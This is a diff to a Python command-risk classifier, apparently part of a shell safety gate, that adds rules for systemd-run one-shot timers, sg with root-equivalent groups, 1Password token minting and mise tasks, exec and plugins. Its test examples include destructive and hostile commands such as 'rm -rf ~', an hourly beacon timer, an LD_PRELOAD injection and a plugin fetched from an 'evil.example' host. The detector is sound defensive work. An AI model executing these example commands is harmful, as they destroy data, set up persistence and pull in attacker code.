@@ -13,6 +13,7 @@ import shlex
 
 from wispsh.policy import places
 from wispsh.programs.grammar import UNKNOWN, Options
+from wispsh.programs.system import ROOT_GROUPS
 from wispsh.programs.table import OPERANDS, Grammar, On, Program, Row, When, emits, programs, verb
 from wispsh.support.lazyre import lazy_re
 
@@ -391,7 +392,13 @@ SYSTEMD_TIMERS = frozenset({"--on-active", "--on-boot", "--on-startup", "--on-un
                             "--socket-property"})
 
 
-@emits({"systemd-run.timer": ["systemd-run --user --on-calendar=daily ls"],
+# A timer that fires once, a while from now (like `at`): the command runs later, outside this shell; the others
+# recur (a calendar, each activation) or wait for events: something that runs on its own, persistence.
+ONE_SHOT_TIMERS = frozenset({"--on-active"})
+
+
+@emits({"systemd-run.timer": ["systemd-run --user --on-calendar=daily ls", "systemd-run --on-unit-active=1h ls"],
+        "systemd-run.later": ["systemd-run --user --on-active=30m make test"],
         "systemd-run.property": ["systemd-run -p ExecStartPre=/tmp/x ls"],
         "systemd-run.env": ["systemd-run -E LD_PRELOAD=/tmp/x ls"], "systemd-run.runs": ["systemd-run ls"],
         "systemd-run.runs-runtime": ['systemd-run "$X"']})
@@ -404,7 +411,10 @@ def systemd_run(cmd, o: Options) -> None:
         i += 1
         if head == "--":
             break
-        if head in SYSTEMD_TIMERS:
+        if head in ONE_SHOT_TIMERS:
+            cmd.does("run-code", "systemd-run.later", f"{cmd.name} {head} runs the command later, outside this shell "
+                                                      f"and the gate")
+        elif head in SYSTEMD_TIMERS:
             cmd.does("persist", "systemd-run.timer", f"{cmd.name} {head} schedules a command to run on its own")
         if head in ("-E", "--setenv"):
             _env_assignment(cmd, value if eq else (args[i] if i < n else ""), "systemd-run.env")
@@ -423,7 +433,8 @@ SYSTEMD_RUN = Program(
     rows=(Row("systemd-run.service", "system", "{cmd} runs a command as a service (outside this shell)",
               examples=("systemd-run ls",)),),
     hook=systemd_run,
-    examples={"systemd-run --user --on-active=1h rm -rf ~": "dangerous"},
+    examples={"systemd-run --user --on-active=1h rm -rf ~": "dangerous", "systemd-run --on-active=5m make": "high",
+              "systemd-run --user --on-calendar=hourly ./beacon.sh": "dangerous"},
 )
 
 # ---------------------------------------------------------------- runners that set up and run a command
@@ -493,12 +504,27 @@ def _command_line(cmd, text: str, who: str) -> None:
     cmd.code_text(text, f"{who} runs", at_least=_floor(cmd, "run-project"))
 
 
-def runner(name: str, values=(), doc: str = "", aliases=(), **more) -> Program:
+def runner(name: str, values=(), doc: str = "", aliases=(), hook=runs_command, **more) -> Program:
     """A program whose operands, after its options, are the command it runs."""
     return Program(name, aliases=aliases, doc=doc or f"{name}: runs the command it is given",
                    grammar=Grammar(long_values=tuple(v for v in values if v.startswith("--")),
                                    values="".join(v[1] for v in values if len(v) == 2), stop=True),
-                   hook=runs_command, **more)
+                   hook=hook, **more)
+
+
+@emits({"sg.root-group": ["sg docker -c 'docker ps'", "sg - docker -c id", "sg lxd 'lxc list'"],
+        "sg.group": ["sg developers -c make"]})
+def sg_group(cmd, o: Options) -> None:
+    """`sg [-] GROUP [-c] COMMAND`: the command runs with GROUP's privileges, like `newgrp GROUP`; some groups
+    (docker, lxd, disk, wheel…) are root in all but name."""
+    words = [w for w in o.operands if w != "-"]
+    group = words[0] if words else ""
+    if group in ROOT_GROUPS or UNKNOWN in group:
+        cmd.does("privilege", "sg.root-group", f"sg {group.replace(UNKNOWN, '…')} runs a command with a group that "
+                                               f"is root in all but name")
+    elif group:
+        cmd.fired.add("sg.group")
+    runs_command(cmd, o)
 
 
 PIPENV = Program(
@@ -574,14 +600,109 @@ OP = Program(
                                                          examples=("op account add",)))},
     default=Row("op.secret", "secret", "{cmd} reads stored secrets", sets=("secret",),
                 examples=("op signin", "op user get me")),
-    examples={"op run -- rm -rf ~": "dangerous", "op item list": "safe", "op read op://v/i/f": "high"},
+    examples={"op run -- rm -rf ~": "dangerous", "op item list": "safe", "op read op://v/i/f": "high",
+              "op service-account create ci --vault Dev:read_items": "dangerous"},
 )
+OP_MINTS = verb(rows=(Row("op.mints", "credentials", "{cmd} mints a token for 1Password (it prints it)", sets=("secret",),
+                          examples=("op service-account create ci", "op connect token create t --server s",
+                                    "op events-api create siem")),))
+OP.verbs.update({"service-account": verb(verbs={"create": OP_MINTS}), "events-api": verb(verbs={"create": OP_MINTS}),
+                 "connect": verb(verbs={"token": verb(verbs={"create": OP_MINTS}),
+                                        "server": verb(verbs={"create": OP_MINTS})})})
 for _word in ("inject", "read", "document"):
     OP.verbs[_word] = verb(grammar=Grammar(values="io", long_values=("in-file", "out-file", "output")),
                            rows=(Row(f"op.{_word}", "secret", f"op {_word} prints stored secrets", sets=("secret",),
                                      examples=(f"op {_word} op://vault/item/field",)),),
                            on=(On("write", ("option", "o", "out-file", "output"), id=f"op.{_word}.out-file",
                                   says="op writes secrets to", examples=(f"op {_word} -o ~/.config/x.env x",)),))
+
+# ---------------------------------------------------------------- mise
+
+MISE_CONFIG = ("mise.toml", ".mise.toml", "mise.local.toml", ".mise.local.toml", ".mise/config.toml",
+               "mise/config.toml", ".config/mise.toml", ".config/mise/config.toml", ".tool-versions")
+
+
+@emits({"mise.tasks": ["mise run", "mise run build", "mise r test", "mise watch build"]})
+def mise_tasks(cmd, o: Options) -> None:
+    """`mise run [TASK]`: the tasks (and the [env] they load) come from the project's mise config, here or in a
+    directory above; a line that writes that config and then runs a task runs what it wrote."""
+    cmd.fired.add("mise.tasks")
+    here = cmd.place(".").path.rstrip("/") or "/"
+    root = cmd.ctx.project_root.rstrip("/")
+    for _ in range(32):
+        cmd.facts.runs.extend(f"{here}/{name}" for name in MISE_CONFIG)
+        if here == root or not here.startswith(root + "/"):
+            break
+        here = here.rsplit("/", 1)[0] or "/"
+
+
+@emits({"mise.exec": ["mise exec node@20 -- node app.js", "mise x -- npm test"],
+        "mise.exec-code": ["mise exec -c 'rm -rf ~'"], "mise.exec-runtime": ['mise x -- "$X"']})
+def mise_exec(cmd, o: Options) -> None:
+    """`mise exec [TOOL@VERSION…] [-- COMMAND…]` (or -c 'command line'): the command runs with those tools."""
+    args = list(o.args)
+    for option in ("-c", "--command"):
+        if option in args and args.index(option) + 1 < len(args):
+            _command_line(cmd, args[args.index(option) + 1], "mise exec")
+            cmd.fired.add("mise.exec-code")
+            return
+    if "--" in args:
+        words = args[args.index("--") + 1:]
+        if words and UNKNOWN in words[0]:
+            cmd.does("run-code", "mise.exec-runtime", "mise exec runs a program known only at run time")
+        elif words:
+            cmd.fired.add("mise.exec")
+            cmd.delegate_to = words
+
+
+@emits({"mise.plugin-url": ["mise plugins install x https://github.com/someone/asdf-x",
+                            "mise plugin add x https://evil.example/p.git"]})
+def mise_plugin(cmd, o: Options) -> None:
+    """A plugin from a URL is code from a repository: it runs with every later use of the tool."""
+    if any("://" in word or word.startswith("git@") for word in o.operands):
+        cmd.does("install-foreign", "mise.plugin-url", "mise installs a plugin from a repository: its scripts run "
+                                                       "unreviewed")
+
+
+MISE_RUN = verb(grammar=Grammar(values="jCo", long_values=("jobs", "cd", "output", "shell", "timings"), stop=True),
+                hook=mise_tasks, rows=(Row("mise.run", "run-project", "{cmd} runs the project's tasks (the default "
+                                           "task when none is named)", sets=("builds",),
+                                           examples=("mise run", "mise run lint")),))
+MISE_INSTALLS = verb(rows=(Row("mise.install", "install", "{cmd} installs tools from their registries",
+                               examples=("mise install", "mise use node@20", "mise upgrade")),))
+MISE = Program(
+    "mise", aliases=("rtx",), doc="mise: tool versions, environments and tasks",
+    verbs={
+        **dict.fromkeys(("run", "r", "watch", "w"), MISE_RUN),
+        "tasks": verb(verbs={"run": MISE_RUN}, read_only=("ls", "list", "info", "deps", "validate"),
+                      default=Row("mise.tasks.verb", "unknown", "{cmd}", examples=("mise tasks add x",))),
+        **dict.fromkeys(("exec", "x"), verb(hook=mise_exec, rows=(
+            Row("mise.exec.tools", "install", "{cmd} installs the tools it names if missing",
+                examples=("mise exec python@3.12 -- python -V",)),))),
+        **dict.fromkeys(("install", "i", "use", "u", "upgrade", "up", "sync", "prune", "uninstall", "self-update"),
+                        MISE_INSTALLS),
+        **dict.fromkeys(("plugins", "plugin", "p"), verb(
+            verbs=dict.fromkeys(("install", "add", "i", "a", "link"), verb(hook=mise_plugin, rows=(
+                Row("mise.plugin", "install", "{cmd} installs a plugin", examples=("mise plugins install node",)),))),
+            read_only=("ls", "list", "ls-remote"),
+            default=Row("mise.plugins", "install", "{cmd}", examples=("mise plugins update",)))),
+        "trust": verb(grammar=Grammar(longs=("untrust", "ignore", "show")), rows=(
+            Row("mise.untrust", "local-config", "{cmd} stops trusting a config", When(flag=("untrust", "ignore", "show")),
+                stop=True, examples=("mise trust --untrust",)),
+            Row("mise.trust", "persist", "mise trust lets the directory's config set environment variables and run "
+                                         "its hooks whenever a shell enters it", examples=("mise trust", "mise trust -a")))),
+        **dict.fromkeys(("settings", "config", "set", "unuse", "alias", "cache", "link", "implode", "generate",
+                         "edit"), verb(read_only=("get", "ls", "list"), default=Row(
+            "mise.settings", "local-config", "{cmd} changes mise's settings", examples=("mise settings set x y",)),
+            no_verb=Row("mise.settings.show", "nothing", "shows mise's settings", examples=("mise settings",)))),
+    },
+    read_only=("activate", "hook-env", "env", "e", "ls", "list", "current", "doctor", "dr", "version", "which",
+               "where", "bin-paths", "completion", "outdated", "search", "registry", "latest", "ls-remote", "help",
+               "deactivate", "reshim", "--version", "-V"),
+    default=Row("mise.verb", "unknown", "{cmd}", examples=("mise frobnicate",)),
+    examples={"mise run": "moderate", "mise trust": "dangerous", "mise ls": "safe",
+              "mise exec -- rm -rf ~": "dangerous"},
+)
 
 PLAIN_RUNNERS = (
     runner("dotenv", values=("-f", "-e", "-v", "-c"), doc="runs a command with a .env file's variables"),
@@ -596,7 +717,7 @@ PLAIN_RUNNERS = (
     runner("setpriv", values=("--reuid", "--regid", "--groups", "--inh-caps", "--ambient-caps", "--bounding-set",
                               "--securebits", "--selinux-label", "--apparmor-profile", "--ruid", "--rgid", "--euid",
                               "--egid")),
-    runner("sg", doc="runs a command with another group"),
+    runner("sg", doc="runs a command with another group", hook=sg_group),
 )
 
 # ---------------------------------------------------------------- nix
@@ -783,4 +904,4 @@ PERF = Program(
 TRACERS = (tracer("valgrind", "runs a program under valgrind's tools"),)
 
 PROGRAMS = programs(FD, PARALLEL, SCREEN, TMUX, SYSTEMD_RUN, PIPENV, DIRENV, AWS_VAULT, DOPPLER, INFISICAL, OP,
-                    *PLAIN_RUNNERS, NIX, NIX_SHELL, SCRIPT, PERF, *TRACERS)
+                    *PLAIN_RUNNERS, MISE, NIX, NIX_SHELL, SCRIPT, PERF, *TRACERS)
